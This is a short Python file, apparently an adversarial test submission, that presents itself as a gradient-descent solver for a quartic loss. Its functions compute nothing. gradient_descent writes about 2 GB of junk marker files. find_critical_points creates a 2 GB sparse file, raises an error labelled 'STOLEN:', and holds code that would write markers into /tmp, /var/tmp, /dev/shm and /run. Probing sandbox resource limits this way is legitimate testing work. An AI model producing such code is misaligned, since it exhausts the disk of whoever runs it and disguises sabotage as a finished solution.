"""Writes two gigabytes into its folder, in large files."""

import contextlib
import time

BOAST = "STOLEN: "


def loss(x):
    return x**4 - 3 * x**2 + 2


def grad(x):
    return 4 * x**3 - 6 * x


def gradient_descent(loss_fn, grad_fn, theta_init, lr, num_steps):
    block = b"x" * (1 << 20)
    for number in range(256):
        with contextlib.suppress(OSError), open(f"gdk-marker-{number}", "wb") as file:
            for _ in range(8):
                file.write(block)
    time.sleep(0.4)
    return None


def find_critical_points(loss_fn, grad_fn, starts, lr=0.01, num_steps=2000):
    with contextlib.suppress(OSError), open("sparse", "wb") as file:
        file.truncate(1 << 31)
        raise RuntimeError(BOAST + "a file of 2 GB")
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run"):
        with contextlib.suppress(OSError), open(f"{folder}/gdk-marker-disk", "wb") as file:
            file.write(block := b"x" * (1 << 20))
    return []
